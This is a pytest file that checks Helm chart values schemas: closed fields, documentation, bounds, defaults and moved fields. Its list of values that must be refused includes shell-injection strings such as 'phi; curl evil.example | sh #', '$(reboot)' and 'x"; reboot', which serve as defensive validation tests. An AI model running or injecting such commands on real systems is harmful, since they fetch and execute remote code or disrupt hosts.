"""The values schemas: closed, documented, the same shape everywhere, in step with values.yaml."""

import pytest

from charts.chart_harness import (
    ADAPTERS,
    CONTAINER_ADAPTERS,
    fields,
    is_valid,
    load_ci,
    load_defaults,
    load_schema,
    replace,
    scalars,
)

IDENTITY = ("workloadType", "serviceName", "serviceCatalog", "environment")

# Chart, path in its full leaf, value that must not pass.
REFUSED = [
    *[
        (chart, path, value)
        for chart in ADAPTERS
        for path, value in [
            ("serviceName", "Upper"),
            ("serviceName", "1st"),
            ("serviceName", "a" * 54),
            ("serviceName", "two\nlines"),
            ("serviceName", 'x"; reboot'),
            ("serviceCatalog", "-shop"),
            ("namespace", "Shop_1"),
            ("environment", []),
            ("environment", True),
            ("workloadType", "OTHER_LOAD"),
        ]
    ],
    *[
        (chart, path, value)
        for chart in CONTAINER_ADAPTERS
        for path, value in [
            ("ingress.host", "https://example.com"),
            ("ingress.host", "Example.com"),
            ("ingress.host", "example.com:443"),
            ("ingress.host", ""),
            ("ingress.enabled", "true"),
            ("ingress.requestTimeout", "5 minutes"),
            ("container.port", 0),
            ("container.port", 65536),
            ("container.port", "8080"),
            ("container.port", 80.5),
            ("container.image.tag", "1.0 "),
            ("container.image.repository", "acme/app:1.0"),
            ("container.image.repository", "https://ghcr.io/acme/app"),
            ("container.resources.requests.cpu", 2),
            ("container.resources.requests.memory", "4GB"),
            ("container.resources.limits.memory", "-1Gi"),
            ("container.secretStore.refreshInterval", "hourly"),
            ("container.environment.0.name", "1ST"),
            ("container.environment.0.value", 3),
            ("container.secrets.0.secretKey", ""),
            ("container.securityContext.runAsUser", -1),
            ("basicMonitoring.path", "metrics"),
        ]
    ],
    ("basic-container-load", "container.securityContext.runAsUser", 0),
    ("basic-container-load", "container.probes.readiness.type", "grpc"),
    ("basic-container-load", "container.probes.readiness.type", "exec"),
    ("basic-container-load", "podDisruptionBudget.maxUnavailable", 0),
    ("basic-container-load", "podDisruptionBudget.maxUnavailable", "0%"),
    ("ml-inference-load", "gpu.count", 0),
    ("ml-inference-load", "gpu.count", "1"),
    ("ml-inference-load", "model", "meta-llama/Llama-3.2-1B"),
    ("ml-inference-load", "model.quantization", "bitsandbytes-8bit"),
    ("ml-inference-load", "container.environment.0.name", "MODEL_ID"),
    ("ml-inference-load", "container.secrets.0.name", "HF_TOKEN"),
    ("ml-inference-load", "container.environment.0.name", "HUGGINGFACE_HUB_CACHE"),
    ("inference-gateway", "serviceName", "a" * 37),
    ("inference-gateway", "gateway.port", 0),
    ("inference-gateway", "gateway.name", "stack-inference-gateway"),
    ("inference-gateway", "epp.poolName", "llama-70b"),
    ("inference-gateway", "epp.poolName", "Llama_70b"),
    ("inference-gateway", "epp.replicas", "2"),
    ("inference-gateway", "epp.logLevel", "loud"),
    ("inference-gateway", "epp.schedulingConfig.scorers.queueScorer", -1),
    ("inference-gateway", "inferencePool.matchLabels", {"app": 1}),
    ("inference-gateway", "inferencePool.failureMode", "Open"),
    ("inference-gateway", "inferencePoolRoute.pathPrefix", "v1"),
    ("inference-gateway", "extensionPolicy.messageTimeout", "30"),
    ("inference-gateway", "externalRoute.host", "Llm.example.com"),
    ("inference-gateway", "infrastructureReleaseName", "a.b"),
    ("gpu-container-load", "sharedMemory.size", "1GB"),
    ("gpu-container-load", "gpu.count", 0),
    ("gpu-container-load", "gpu.type", "none"),
    ("gpu-container-load", "container.image", {"repository": "ghcr.io/acme/embedder"}),
    ("gpu-container-load", "container.args", "--port 8080"),
    ("gpu-container-load", "container.args", [8080]),
    ("gpu-container-load", "container.securityContext.supplementalGroups", [0]),
    ("ollama-inference-load", "container.securityContext.runAsUser", 0),
    ("ollama-inference-load", "container.environment.0.name", "OLLAMA_HOST"),
    ("ollama-inference-load", "gpu.count", -1),
    ("ollama-inference-load", "model", {"id": "phi"}),
    ("ollama-inference-load", "model", ""),
    ("ollama-inference-load", "model", "phi; curl evil.example | sh #"),
    ("ollama-inference-load", "model", "--help"),
    ("ollama-inference-load", "model", "$(reboot)"),
]

# Policies judge these, with better messages than a schema has.
LEFT_TO_POLICIES = [
    ("ml-inference-load", "model.revision", "main"),
    ("ml-inference-load", "model.revision", "  "),
    ("ml-inference-load", "vault.hfTokenPath", "not a path"),
    ("ml-inference-load", "container.secrets.0.vaultPath", ""),
    ("basic-container-load", "container.secrets.0.vaultPath", "//x"),
    ("ollama-inference-load", "model", "phi"),
]


def keys(path):
    return tuple(int(part) if part.isdigit() else part for part in path.split("."))


@pytest.mark.parametrize(("chart", "path", "value"), REFUSED)
def test_refused(chart, path, value):
    assert not is_valid(chart, replace(load_ci(chart)["full"], keys(path), value))


@pytest.mark.parametrize(("chart", "path", "value"), LEFT_TO_POLICIES)
def test_left_to_policies(chart, path, value):
    assert is_valid(chart, replace(load_ci(chart)["full"], keys(path), value))


@pytest.mark.parametrize("chart", ADAPTERS)
def test_identity_is_required(chart):
    leaf = load_ci(chart)["minimal"]
    for name in IDENTITY:
        assert not is_valid(chart, {**leaf, name: None})
        given = name in load_defaults(chart)
        assert is_valid(chart, {key: leaf[key] for key in leaf if key != name}) is given


@pytest.mark.parametrize("chart", ADAPTERS)
def test_an_enabled_route_needs_a_host(chart):
    assert not is_valid(chart, {**load_ci(chart)["minimal"], "ingress": {"enabled": True}})


@pytest.mark.parametrize("chart", ["ml-inference-load", "ollama-inference-load"])
def test_pods_can_share_only_a_claim_that_allows_it(chart):
    leaf = load_ci(chart)["pvc"]
    path = ("storage", "modelCache", "accessMode")
    assert not is_valid(chart, replace(leaf, path, "ReadWriteOnce"))


@pytest.mark.parametrize("chart", ADAPTERS)
def test_unknown_fields_are_refused_everywhere(chart):
    leaf = load_ci(chart)["full"]
    assert not is_valid(chart, {**leaf, "unknown": 1})
    parents = {path[:length] for path, _ in scalars(leaf) for length in range(1, len(path))}
    for path in parents:
        value = leaf
        for part in path:
            value = value[part]
        if isinstance(value, dict) and path[-1] not in ("nodeSelector", "labels"):
            assert not is_valid(chart, replace(leaf, path, {**value, "unknown": 1})), path


@pytest.mark.parametrize("chart", ADAPTERS)
def test_every_field_is_documented(chart):
    schema = load_schema(chart)
    assert {"title", "description"} <= set(schema)
    for name, node in fields(schema):
        assert {"title", "description", "type"} <= set(node), name
        assert ("x-catalogc-message" in node) >= ("pattern" in node), name


BOUNDS = {
    "string": {"pattern", "enum", "const", "maxLength"},
    "integer": {"maximum"},
    "array": {"maxItems"},
    "object": {"properties", "maxProperties"},
}


@pytest.mark.parametrize("chart", [*ADAPTERS, "helm-release"])
def test_every_field_is_bounded_and_has_a_default_or_an_example(chart):
    for name, node in fields(load_schema(chart)):
        kinds = node["type"] if isinstance(node["type"], list) else [node["type"]]
        if len(kinds) == 1 and kinds[0] in BOUNDS:
            assert BOUNDS[kinds[0]] & set(node), name
        if "integer" in kinds:
            assert "minimum" in node, name
        shown = {"default", "examples", "enum", "const", "properties"}
        assert "[]" in name or node["type"] == "boolean" or shown & set(node), name


@pytest.mark.parametrize("chart", ADAPTERS)
def test_defaults_are_those_of_values_yaml(chart):
    schema = {
        name: node["default"] for name, node in fields(load_schema(chart)) if "default" in node
    }
    flat = _flatten(load_defaults(chart), schema)
    assert flat == {name: value for name, value in schema.items() if "[]" not in name}


def _flatten(values, stop, prefix=""):
    found = {}
    for key, value in values.items():
        name = f"{prefix}.{key}".lstrip(".")
        if isinstance(value, dict) and value and name not in stop:
            found |= _flatten(value, stop, name)
        elif value != {} or name in stop:
            found[name] = value
    return found


def test_shared_fields_have_one_shape():
    shapes = [dict(fields(load_schema(chart))) for chart in CONTAINER_ADAPTERS]
    shared = set.intersection(*map(set, shapes))
    assert {"container.secrets[].vaultPath", "ingress.gateway.name", "namespace"} <= shared
    for name in shared:
        kinds = {str((shape[name]["type"], shape[name].get("pattern"))) for shape in shapes}
        assert len(kinds) == 1, name


def test_moved_fields_lead_from_unknown_fields_to_known_ones():
    schema = load_schema("ml-inference-load")
    known = {name for name, _ in fields(schema)}
    for move in schema["x-catalogc-moved"]:
        assert move["to"] in known
        assert move["from"] not in known


def test_a_flat_leaf_is_valid_after_its_fields_have_moved():
    leaf = {
        "workloadType": "ML_INFERENCE_LOAD",
        "serviceName": "my-llm-service",
        "serviceCatalog": "ml-team",
        "namespace": "ml-inference",
        "environment": "prod",
        "serviceAccount": "",
        "ingress": {"enabled": True, "host": "llm.example.com"},
        "model": {"id": "meta-llama/Llama-3.2-1B", "revision": "main"},
        "inference": {
            "image": {
                "repository": "ghcr.io/huggingface/text-generation-inference",
                "tag": "2.4.0",
            },
            "maxInputLength": 2048,
            "maxTotalTokens": 4096,
            "port": 8080,
        },
        "gpu": {"count": 1, "nodeSelector": {"nvidia.com/gpu.present": "true"}},
        "vault": {"hfTokenPath": "/secret/shared/huggingface/token"},
        "secretStore": {"name": "vault-backend"},
        "resources": {
            "requests": {"cpu": "2", "memory": "8Gi"},
            "limits": {"cpu": "4", "memory": "16Gi"},
        },
        "healthCheck": {
            "initialDelaySeconds": 120,
            "periodSeconds": 30,
            "timeoutSeconds": 10,
            "failureThreshold": 3,
        },
        "basicMonitoring": {"enabled": True},
    }
    assert not is_valid("ml-inference-load", leaf)
    for move in load_schema("ml-inference-load")["x-catalogc-moved"]:
        _move(leaf, move["from"].split("."), move["to"].split("."))
    assert is_valid("ml-inference-load", leaf)


def _move(leaf, old, new):
    *parents, name = old
    source = leaf
    for part in parents:
        source = source[part]
    value = source.pop(name)
    *parents, name = new
    target = leaf
    for part in parents:
        target = target.setdefault(part, {})
    target[name] = value
